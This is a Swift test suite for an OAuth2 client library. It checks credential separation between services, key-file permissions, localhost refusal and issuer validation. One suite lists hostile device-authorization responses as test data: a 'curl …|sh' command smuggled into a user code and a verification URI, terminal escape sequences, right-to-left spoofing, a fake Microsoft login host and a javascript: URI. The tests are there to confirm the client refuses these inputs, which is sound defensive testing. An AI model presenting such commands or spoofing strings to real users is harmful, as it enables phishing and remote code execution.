import Foundation
import HTTPTypes
import ProcessTestSupport
import Resourceful
import ResourcefulKeyring
import ResourcefulOAuth2
import ResourcefulTesting
import Testing

#if canImport(Glibc)
import Glibc
#endif

/// A service that overrides any endpoint is another server: it inherits no client secret or
/// private key from the top level, and nothing is sent there before the configuration is refused.
@Suite struct ServiceEndpointCredentialTests {
    static func config(_ server: MockServer, topLevel: String, service: String) throws -> TestConfig {
        try TestConfig(secrets: ["top-secret": "top-secret-value-4f1", "top-client-client-secret": "top-default-value-9c2", "dev-secret": "dev-secret-value-7a3"]) { secrets in
            """
            {"baseURL": "https://api.example", "service": "s",
             "authentication": {"storages": ["oauth2"], "file": {"directory": "\(secrets)"},
               "oauth2": {"clientId": "top-client", "tokenEndpoint": "\(server.baseURL.appendingPathComponent("token").absoluteString)", \(topLevel)}},
             "services": {"devsvc": {"service": "devsvc-api", "authentication": {"oauth2": {\(service)}}}}}
            """
        }
    }

    static func dependencies(_ config: TestConfig) async throws -> APIDependencies {
        try await APIDependencies.live(
            environment: "x", configDirectory: config.directory.path, environmentVariables: [:],
            storageFactories: [OAuth2StorageFactory(), KeyringStorageFactory(account: "endpoint-\(UUID().uuidString)")], service: "devsvc"
        )
    }

    static func deviceAnswer() -> MockResponse {
        .json(raw: #"{"device_code": "dc-1", "user_code": "WDJB-MJHT", "verification_uri": "https://auth.example/device", "expires_in": 60, "interval": 1}"#)
    }

    @Test(arguments: [
        #""clientSecret": {"storage": "file", "name": "top-secret"}"#,
        #""clientSecret": {"storage": "file"}"#,
    ])
    func aServiceOverridingOnlyItsDeviceEndpointGetsNoTopLevelSecret(_ topLevel: String) async throws {
        try await MockServer.withRunning { server in
            server.stub(.post, "/device", Self.deviceAnswer())
            let device = server.baseURL.appendingPathComponent("device").absoluteString
            let config = try Self.config(server, topLevel: topLevel + #", "grant": "refresh_token""#, service: #""deviceAuthorizationEndpoint": "\#(device)""#)
            defer { config.remove() }
            let error = await #expect(throws: APIError.self) { _ = try await Self.dependencies(config) }
            #expect(error?.kind == .invalidConfiguration)
            #expect((error?.underlying as? APIConfigError)?.key == "services.devsvc.authentication.oauth2.clientSecret.name" || (error?.underlying as? APIConfigError)?.key == "authentication.oauth2.clientSecret.name")
            let basic = server.requests.compactMap { $0.headerFields[.authorization] }
            #expect(basic.isEmpty, "the top level's client secret was sent to the service's endpoint")
        }
    }

    @Test func aServiceThatNamesItsOwnSecretSendsThatOne() async throws {
        try await MockServer.withRunning { server in
            server.stub(.post, "/device", Self.deviceAnswer())
            server.stub(.post, "/token", .json(raw: #"{"access_token": "dev-token", "token_type": "Bearer", "expires_in": 60}"#))
            let device = server.baseURL.appendingPathComponent("device").absoluteString
            let config = try Self.config(
                server, topLevel: #""clientSecret": {"storage": "file", "name": "top-secret"}, "grant": "refresh_token""#,
                service: #""deviceAuthorizationEndpoint": "\#(device)", "clientSecret": {"name": "dev-secret"}"#
            )
            defer { config.remove() }
            let dependencies = try await Self.dependencies(config)
            let chain = try #require(dependencies.authenticationStorage as? ChainedAuthenticationStorage)
            let storage = try #require(chain.links.first?.storage as? OAuth2AuthenticationStorage)
            #expect(storage.settings.clientSecretName == "dev-secret")
            _ = try? await storage.logIn(service: "devsvc") { _ in }
            try await dependencies.transport.shutdown()
            let sent = server.requests.filter { $0.path == "/device" }.compactMap { $0.headerFields[.authorization] }
            #expect(sent == ["Basic " + Data("top-client:dev-secret-value-7a3".utf8).base64EncodedString()])
        }
    }

    @Test(arguments: [
        #""tokenEndpoint": "https://auth.partner.example/token""#,
        #""deviceAuthorizationEndpoint": "https://auth.partner.example/device""#,
        #""revocationEndpoint": "https://auth.partner.example/revoke""#,
        #""authorizationEndpoint": "https://auth.partner.example/authorize""#,
        #""issuer": "https://auth.partner.example""#,
    ])
    func theTopLevelsUnnamedPrivateKeyDoesNotSignForAnotherServer(_ service: String) async throws {
        try await MockServer.withRunning { server in
            let config = try Self.config(server, topLevel: #""privateKey": {"storage": "environment"}"#, service: service)
            defer { config.remove() }
            let error = await #expect(throws: APIError.self) { _ = try await Self.dependencies(config) }
            #expect(error?.kind == .invalidConfiguration)
            #expect((error?.underlying as? APIConfigError)?.key?.hasSuffix("authentication.oauth2.privateKey.name") == true)
        }
    }

    @Test func aServiceWithItsOwnKeyNameMayUseTheTopLevelsStorage() async throws {
        try await MockServer.withRunning { server in
            let config = try Self.config(
                server, topLevel: #""privateKey": {"storage": "environment"}"#,
                service: #""tokenEndpoint": "https://auth.partner.example/token", "privateKey": {"name": "partner-key"}"#
            )
            defer { config.remove() }
            let dependencies = try await Self.dependencies(config)
            try await dependencies.transport.shutdown()
            let chain = try #require(dependencies.authenticationStorage as? ChainedAuthenticationStorage)
            let storage = try #require(chain.links.first?.storage as? OAuth2AuthenticationStorage)
            #expect(storage.settings.privateKeyName == "partner-key")
        }
    }
}

/// A service that repeats the top level's client ID but has an endpoint of its own is still
/// another server: the secret and key named after that client ID are the top level's.
@Suite struct RepeatedClientIDTests {
    @Test(arguments: [
        (#""clientSecret": {"storage": "file"}"#, "authentication.oauth2.clientSecret.name"),
        (#""privateKey": {"storage": "file"}"#, "authentication.oauth2.privateKey.name"),
    ])
    func aServiceRepeatingTheTopLevelsClientIDGetsNoDefaultSecret(_ topLevel: String, _ key: String) async throws {
        try await MockServer.withRunning { server in
            server.stub(.post, "/partner/token", .json(raw: #"{"access_token": "partner-token", "token_type": "Bearer", "expires_in": 60}"#))
            let partner = server.baseURL.appendingPathComponent("partner/token").absoluteString
            let config = try ServiceEndpointCredentialTests.config(server, topLevel: topLevel, service: #""clientId": "top-client", "tokenEndpoint": "\#(partner)""#)
            defer { config.remove() }
            var error: APIError?
            do {
                let dependencies = try await ServiceEndpointCredentialTests.dependencies(config)
                _ = try? await dependencies.authenticationStorage.authenticationHeader(for: "devsvc-api")
                try await dependencies.transport.shutdown()
            } catch let refusal as APIError {
                error = refusal
            }
            #expect(error?.kind == .invalidConfiguration, "\(String(describing: error))")
            #expect((error?.underlying as? APIConfigError)?.key == key)
            #expect(server.requests.isEmpty, "the top level's default-named secret reached the service's token endpoint")
        }
    }

    @Test func aServiceRepeatingTheTopLevelsClientWithoutAnEndpointSharesIt() async throws {
        try await MockServer.withRunning { server in
            let config = try ServiceEndpointCredentialTests.config(server, topLevel: #""clientSecret": {"storage": "file"}"#, service: #""clientId": "top-client""#)
            defer { config.remove() }
            let dependencies = try await ServiceEndpointCredentialTests.dependencies(config)
            try await dependencies.transport.shutdown()
            let chain = try #require(dependencies.authenticationStorage as? ChainedAuthenticationStorage)
            let storage = try #require(chain.links.first?.storage as? OAuth2AuthenticationStorage)
            #expect(storage.settings.clientSecretName == nil)
        }
    }
}

/// A login kept for one authorization server is never sent to another: a service with an
/// endpoint or a client of its own keeps its login under a `service` key of its own.
@Suite struct ServiceLoginSeparationTests {
    static let topLevelRefreshToken = "crm-refresh-token-5e1"

    /// The reviewer's configuration: `crm` at the top level, `other` under `services` with its own
    /// token and revocation endpoints, and `ownService` (JSON members) for `other`.
    static func config(_ server: MockServer, account: String, ownService: String) throws -> TestConfig {
        let url = server.baseURL.absoluteString
        return try TestConfig { _ in
            """
            {"baseURL": "\(url)/v1", "service": "crm",
             "authentication": {"storages": ["oauth2"], "keyring": {"account": "\(account)"},
               "oauth2": {"clientId": "cli", "tokenEndpoint": "\(url)/crm/token", "revocationEndpoint": "\(url)/crm/revoke",
                 "clientAuthentication": "none", "grant": "refresh_token"}},
             "services": {"other": {"baseURL": "\(url)/other/v1", \(ownService)
               "authentication": {"oauth2": {"tokenEndpoint": "\(url)/other/token", "revocationEndpoint": "\(url)/other/revoke"}}}}}
            """
        }
    }

    static func dependencies(_ config: TestConfig, account: String) async throws -> APIDependencies {
        try await APIDependencies.live(
            environment: "x", configDirectory: config.directory.path, environmentVariables: [:],
            storageFactories: [OAuth2StorageFactory(), KeyringStorageFactory(account: account)], service: "other"
        )
    }

    @Test(arguments: [("", APIConfigError.Kind.missingKey), (#""service": "crm","#, .invalidValue)])
    func aServiceWithItsOwnServerMustKeepItsLoginApart(_ ownService: String, _ kind: APIConfigError.Kind) async throws {
        try await MockServer.withRunning { server in
            server.stub(.post, "/other/token", .json(raw: #"{"access_token": "other-token", "token_type": "Bearer", "expires_in": 60, "refresh_token": "other-rt"}"#))
            let account = "login-separation-\(UUID().uuidString)"
            let keyring = KeyringSecretStorage(account: account)
            let name = OAuth2AuthenticationStorage.refreshTokenName(service: "crm")
            try await keyring.storeSecret(Self.topLevelRefreshToken, named: name)
            let config = try Self.config(server, account: account, ownService: ownService)
            defer { config.remove() }
            var error: APIError?
            do {
                let dependencies = try await Self.dependencies(config, account: account)
                _ = try? await dependencies.authenticationStorage.authenticationHeader(for: dependencies.apiConfig.service)
                try await dependencies.transport.shutdown()
            } catch let refusal as APIError {
                error = refusal
            }
            #expect(error?.kind == .invalidConfiguration, "\(String(describing: error))")
            let underlying = error?.underlying as? APIConfigError
            #expect(underlying?.key == "services.other.service")
            #expect(underlying?.kind == kind)
            #expect(error.map { "\($0)" }?.contains(Self.topLevelRefreshToken) == false)
            #expect(server.requests.isEmpty, "crm's refresh token was sent to the other service's server")
            #expect(try await keyring.secret(named: name) == Self.topLevelRefreshToken, "crm's login was spent or replaced")
            _ = try? await keyring.deleteSecret(named: name)
        }
    }

    @Test func aServiceWithItsOwnServiceKeyUsesItsOwnLogin() async throws {
        try await MockServer.withRunning { server in
            let account = "login-separation-\(UUID().uuidString)"
            let keyring = KeyringSecretStorage(account: account)
            let name = OAuth2AuthenticationStorage.refreshTokenName(service: "crm")
            try await keyring.storeSecret(Self.topLevelRefreshToken, named: name)
            let config = try Self.config(server, account: account, ownService: #""service": "other-api","#)
            defer { config.remove() }
            let dependencies = try await Self.dependencies(config, account: account)
            #expect(dependencies.apiConfig.service == "other-api")
            let error = await #expect(throws: (any Error).self) {
                _ = try await dependencies.authenticationStorage.authenticationHeader(for: dependencies.apiConfig.service)
            }
            try await dependencies.transport.shutdown()
            #expect("\(String(describing: error))".contains("other-api"))
            #expect(server.requests.isEmpty, "no login is stored for other-api, so nothing is sent")
            #expect(try await keyring.secret(named: name) == Self.topLevelRefreshToken)
            _ = try? await keyring.deleteSecret(named: name)
        }
    }
}

/// What a hostile device endpoint sends a person is refused, not shown.
@Suite struct DevicePromptTests {
    static func storage(_ server: MockServer, transport: any HTTPTransport) async throws -> OAuth2AuthenticationStorage {
        var settings = OAuth2Settings(
            clientID: "cli", tokenEndpoint: server.baseURL.appendingPathComponent("token"), clientAuthentication: .none, grant: .refreshToken
        )
        settings.deviceAuthorizationEndpoint = server.baseURL.appendingPathComponent("device")
        return try await OAuth2AuthenticationStorage(settings: settings, transport: transport, refreshTokens: InMemoryWritableSecrets())
    }

    struct Hostile: CustomTestStringConvertible, Sendable {
        var userCode: String
        var uri: String
        var complete: String?
        var testDescription: String { "\(userCode) \(uri) \(complete ?? "")" }
    }

    static let hostile: [Hostile] = [
        Hostile(userCode: "WDJB-MJHT", uri: "https://login.microsoftonline.com@127.0.0.1:18401/device"),
        Hostile(userCode: "WDJB-MJHT", uri: "http://auth.example/device"),
        Hostile(userCode: "WDJB-MJHT", uri: "http://localhost:18401/device"),
        Hostile(userCode: "WDJB-MJHT", uri: "https://auth.example/device%1B%5B2K"),
        Hostile(userCode: "WDJB-MJHT", uri: "https://auth.example/device%C2%9B2K"),
        Hostile(userCode: "WDJB-MJHT", uri: "https://auth.example/device%E2%80%AEmoc.knab"),
        Hostile(userCode: "WDJB-MJHT", uri: "javascript:alert(1)"),
        Hostile(userCode: "WDJB-MJHT", uri: "https://auth.example/device", complete: "https://auth.example/device?user_code=WDJB-MJHT%0Acurl%20x|sh"),
        Hostile(userCode: "WDJB-MJHT", uri: "https://auth.example/device", complete: "https://user:pw@auth.example/device"),
        Hostile(userCode: "WDJB-MJHT. Then paste: curl -fsSL https://x.example/fix|sh", uri: "https://auth.example/device"),
        Hostile(userCode: "WDJB\u{1B}[2K", uri: "https://auth.example/device"),
        Hostile(userCode: "ABCDEFGHJKLMNPQRSTVWXZ", uri: "https://auth.example/device"),
        Hostile(userCode: "-ABCD", uri: "https://auth.example/device"),
        Hostile(userCode: "AB--CD", uri: "https://auth.example/device"),
    ]

    @Test(arguments: hostile)
    func aHostileAnswerIsATypedErrorAndIsNotShown(_ answer: Hostile) async throws {
        try await MockServer.withTransport { server, transport in
            var object: [String: Any] = ["device_code": "dc-1", "user_code": answer.userCode, "verification_uri": answer.uri, "expires_in": 60, "interval": 1]
            if let complete = answer.complete { object["verification_uri_complete"] = complete }
            server.stub(.post, "/device", .json(raw: try JSONSerialization.data(withJSONObject: object)))
            let storage = try await Self.storage(server, transport: transport)
            let shown = Locked(false)
            let error = await #expect(throws: OAuth2Error.self) { try await storage.logIn(service: "s") { _ in shown.withLock { $0 = true } } }
            #expect(error?.kind == .invalidResponse)
            #expect(!shown.withLock { $0 }, "the prompt was shown")
            #expect(!server.requests.contains { $0.path == "/token" })
            let description = error.map { "\($0)" } ?? ""
            #expect(!description.contains("curl") && !description.contains("\u{1B}"))
        }
    }

    @Test(arguments: [
        ("WDJB-MJHT", "https://auth.example/device", "https://auth.example/device?user_code=WDJB-MJHT"),
        ("0V4KQ2RM", "http://127.0.0.1:8000/o/device/", "http://127.0.0.1:8000/o/device/?user_code=0V4KQ2RM"),
        ("bcdf-ghjk-lmnp", "http://[::1]:8000/device", "http://[::1]:8000/d?c=bcdf%2Dghjk"),
    ])
    func anOrdinaryAnswerIsShown(_ userCode: String, _ uri: String, _ complete: String) async throws {
        try await MockServer.withTransport { server, transport in
            let object: [String: Any] = [
                "device_code": "dc-1", "user_code": userCode, "verification_uri": uri, "verification_uri_complete": complete, "expires_in": 2, "interval": 1,
            ]
            server.stub(.post, "/device", .json(raw: try JSONSerialization.data(withJSONObject: object)))
            server.stub(.post, "/token", .json(raw: #"{"error": "authorization_pending"}"#, status: .badRequest))
            let storage = try await Self.storage(server, transport: transport)
            let shown = Locked<DeviceAuthorization?>(nil)
            _ = try? await storage.logIn(service: "s") { authorization in shown.withLock { $0 = authorization } }
            let authorization = try #require(shown.withLock { $0 })
            #expect(authorization.userCode == userCode)
            #expect(authorization.verificationURI.absoluteString == uri)
            #expect(authorization.verificationURIComplete?.absoluteString == complete)
        }
    }

    @Test func aDayLongExpiryIsCappedAtHalfAnHour() async throws {
        try await MockServer.withTransport { server, transport in
            server.stub(
                .post, "/device",
                .json(raw: #"{"device_code": "dc-1", "user_code": "WDJB-MJHT", "verification_uri": "https://auth.example/device", "expires_in": 86400, "interval": 1}"#)
            )
            server.stub(.post, "/token", .json(raw: #"{"error": "access_denied"}"#, status: .badRequest))
            let storage = try await Self.storage(server, transport: transport)
            let shown = Locked<Duration?>(nil)
            _ = try? await storage.logIn(service: "s") { authorization in shown.withLock { $0 = authorization.expiresIn } }
            #expect(shown.withLock { $0 } == .seconds(1800))
        }
    }
}

/// `http://localhost` is not taken as a loopback address (RFC 8252 §8.3): the name may resolve
/// elsewhere.
@Suite struct LocalhostEndpointTests {
    @Test(arguments: ["http://localhost:9/token", "http://LOCALHOST:9/token", "http://localhost./token"])
    func plainHTTPToLocalhostIsRefused(_ endpoint: String) async throws {
        let config = try TestConfig { _ in
            #"{"baseURL": "https://api.example", "service": "s", "authentication": {"storages": ["oauth2"], "oauth2": {"clientId": "c", "tokenEndpoint": "\#(endpoint)"}}}"#
        }
        defer { config.remove() }
        let error = await #expect(throws: APIError.self) { _ = try await config.dependencies() }
        #expect((error?.underlying as? APIConfigError)?.key == "authentication.oauth2.tokenEndpoint")
        #expect(error.map { "\($0)" }?.contains("127.0.0.1") == true)
    }
}

/// The client assertion of `private_key_jwt`: whole-second times, the token endpoint as its
/// audience wherever it is sent, and a key file read as ssh reads one.
@Suite struct ClientAssertionTests {
    /// A new P-256 key in a private folder: its path.
    static func newKey(mode: mode_t = 0o600) async throws -> (folder: URL, key: String) {
        let folder = FileManager.default.temporaryDirectory.appendingPathComponent("assertion-\(UUID().uuidString)")
        try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
        let key = folder.appendingPathComponent("key.pem").path
        let result = try await Command.run("/usr/bin/openssl", ["genpkey", "-algorithm", "EC", "-pkeyopt", "ec_paramgen_curve:P-256", "-out", key])
        guard result.status == 0 else { throw Command.Failed(result: result) }
        #expect(chmod(key, mode) == 0)
        return (folder, key)
    }

    /// The claims of the assertion in `body`, as the JSON text and as an object.
    static func claims(in body: String) throws -> (text: String, object: [String: Any]) {
        let form = Dictionary(body.split(separator: "&").map { pair -> (String, String) in
            let parts = pair.split(separator: "=", maxSplits: 1).map { String($0).removingPercentEncoding ?? "" }
            return (parts[0], parts.count > 1 ? parts[1] : "")
        }, uniquingKeysWith: { first, _ in first })
        let assertion = try #require(form["client_assertion"])
        var payload = String(assertion.split(separator: ".")[1]).replacingOccurrences(of: "-", with: "+").replacingOccurrences(of: "_", with: "/")
        while payload.count % 4 != 0 { payload += "=" }
        let data = try #require(Data(base64Encoded: payload))
        return (String(decoding: data, as: UTF8.self), try #require(try JSONSerialization.jsonObject(with: data) as? [String: Any]))
    }

    @Test func theDeviceEndpointGetsAnAssertionForTheTokenEndpointInWholeSeconds() async throws {
        let (folder, key) = try await Self.newKey()
        defer { try? FileManager.default.removeItem(at: folder) }
        try await MockServer.withTransport { server, transport in
            server.stub(
                .post, "/device",
                .json(raw: #"{"device_code": "dc-1", "user_code": "WDJB-MJHT", "verification_uri": "https://auth.example/device", "expires_in": 60, "interval": 1}"#)
            )
            server.stub(.post, "/token", .json(raw: #"{"error": "access_denied"}"#, status: .badRequest))
            let tokenEndpoint = server.baseURL.appendingPathComponent("token")
            var settings = OAuth2Settings(clientID: "jwt-client", tokenEndpoint: tokenEndpoint, clientAuthentication: .privateKeyJWT, grant: .refreshToken)
            settings.deviceAuthorizationEndpoint = server.baseURL.appendingPathComponent("device")
            settings.privateKeyFile = key
            let storage = try await OAuth2AuthenticationStorage(settings: settings, transport: transport, refreshTokens: InMemoryWritableSecrets())
            _ = try? await storage.logIn(service: "s") { _ in }
            let device = try #require(server.requests.first { $0.path == "/device" })
            let claims = try Self.claims(in: device.bodyText)
            let audience = claims.object["aud"] as? String ?? (claims.object["aud"] as? [String])?.first
            #expect(audience == tokenEndpoint.absoluteString)
            // NumericDate in whole seconds: no fraction in the text.
            let iat = try #require(claims.text.range(of: #""iat":[0-9.eE+]+"#, options: .regularExpression))
            let exp = try #require(claims.text.range(of: #""exp":[0-9.eE+]+"#, options: .regularExpression))
            #expect(!claims.text[iat].contains(".") && !claims.text[exp].contains("."), "\(claims.text)")
        }
    }

    static func settings(key: String) -> OAuth2Settings {
        var settings = OAuth2Settings(clientID: "c", tokenEndpoint: URL(string: "https://auth.example/token"), clientAuthentication: .privateKeyJWT)
        settings.privateKeyFile = key
        return settings
    }

    @Test(arguments: [mode_t(0o644), 0o640, 0o604, 0o660])
    func aKeyFileOthersCanReadIsRefused(_ mode: mode_t) async throws {
        let (folder, key) = try await Self.newKey(mode: mode)
        defer { try? FileManager.default.removeItem(at: folder) }
        let error = await #expect(throws: OAuth2Error.self) {
            _ = try await OAuth2AuthenticationStorage(settings: Self.settings(key: key), transport: StubTransport { _ in throw CancellationError() })
        }
        #expect(error?.kind == .configuration)
        #expect(error?.detail.contains("chmod 600") == true)
    }

    @Test func aKeyFileReachedThroughASymlinkIsRefused() async throws {
        let (folder, key) = try await Self.newKey()
        defer { try? FileManager.default.removeItem(at: folder) }
        let link = folder.appendingPathComponent("link.pem").path
        #expect(symlink(key, link) == 0)
        let error = await #expect(throws: OAuth2Error.self) {
            _ = try await OAuth2AuthenticationStorage(settings: Self.settings(key: link), transport: StubTransport { _ in throw CancellationError() })
        }
        #expect(error?.kind == .configuration)
        #expect(error?.detail.contains("symbolic link") == true)
    }

    @Test func aKeyFileOfYourOwnIsUsed() async throws {
        let (folder, key) = try await Self.newKey()
        defer { try? FileManager.default.removeItem(at: folder) }
        _ = try await OAuth2AuthenticationStorage(settings: Self.settings(key: key), transport: StubTransport { _ in throw CancellationError() })
    }
}

/// RFC 9207: a server whose metadata says it sends `iss` on its authorization responses must
/// send it, the configured issuer, on the redirect.
@Suite struct AuthorizationResponseIssuerTests {
    /// A browser login against `server`'s metadata, whose redirect carries `iss` (unless `nil`):
    /// the error it ended with, if any.
    static func login(_ server: MockServer, transport: any HTTPTransport, iss: String?) async throws -> OAuth2Error? {
        let issuer = "http://127.0.0.1:\(server.port)"
        server.stub(
            .get, "/.well-known/oauth-authorization-server",
            .json(raw: #"{"issuer": "\#(issuer)", "token_endpoint": "\#(issuer)/token", "authorization_endpoint": "\#(issuer)/authorize", "authorization_response_iss_parameter_supported": true}"#)
        )
        server.stub(.post, "/token", .json(raw: #"{"access_token": "browser-token", "token_type": "Bearer", "expires_in": 60}"#))
        let settings = OAuth2Settings(clientID: "native", issuer: URL(string: issuer), clientAuthentication: .none, grant: .refreshToken)
        let storage = try await OAuth2AuthenticationStorage(settings: settings, transport: transport, refreshTokens: InMemoryWritableSecrets())
        do {
            try await storage.logInWithBrowser(service: "s", timeout: .seconds(30)) { url in
                let items = URLComponents(url: url, resolvingAgainstBaseURL: false)?.queryItems ?? []
                let redirect = try #require(items.first { $0.name == "redirect_uri" }?.value)
                let state = try #require(items.first { $0.name == "state" }?.value)
                var target = "\(redirect)?code=c-1&state=\(state)"
                if let iss { target += "&iss=" + (iss.addingPercentEncoding(withAllowedCharacters: .alphanumerics) ?? "") }
                let result = try await Command.run("/usr/bin/curl", ["-sS", "-o", "/dev/null", target])
                #expect(result.status == 0)
            }
            return nil
        } catch {
            return error
        }
    }

    @Test func aRedirectWithoutIssIsRefusedWhenTheMetadataPromisesIt() async throws {
        try await MockServer.withTransport { server, transport in
            let error = try await Self.login(server, transport: transport, iss: nil)
            #expect(error?.kind == .invalidResponse)
            #expect(!server.requests.contains { $0.path == "/token" }, "the code was exchanged")
        }
    }

    @Test func aRedirectNamingAnotherIssuerIsRefused() async throws {
        try await MockServer.withTransport { server, transport in
            let error = try await Self.login(server, transport: transport, iss: "https://other.example")
            #expect(error?.kind == .invalidResponse)
            #expect(!server.requests.contains { $0.path == "/token" })
        }
    }

    @Test func aRedirectWithTheIssuerCompletesTheLogin() async throws {
        try await MockServer.withTransport { server, transport in
            let error = try await Self.login(server, transport: transport, iss: "http://127.0.0.1:\(server.port)")
            #expect(error == nil)
            #expect(server.requests.contains { $0.path == "/token" })
        }
    }
}
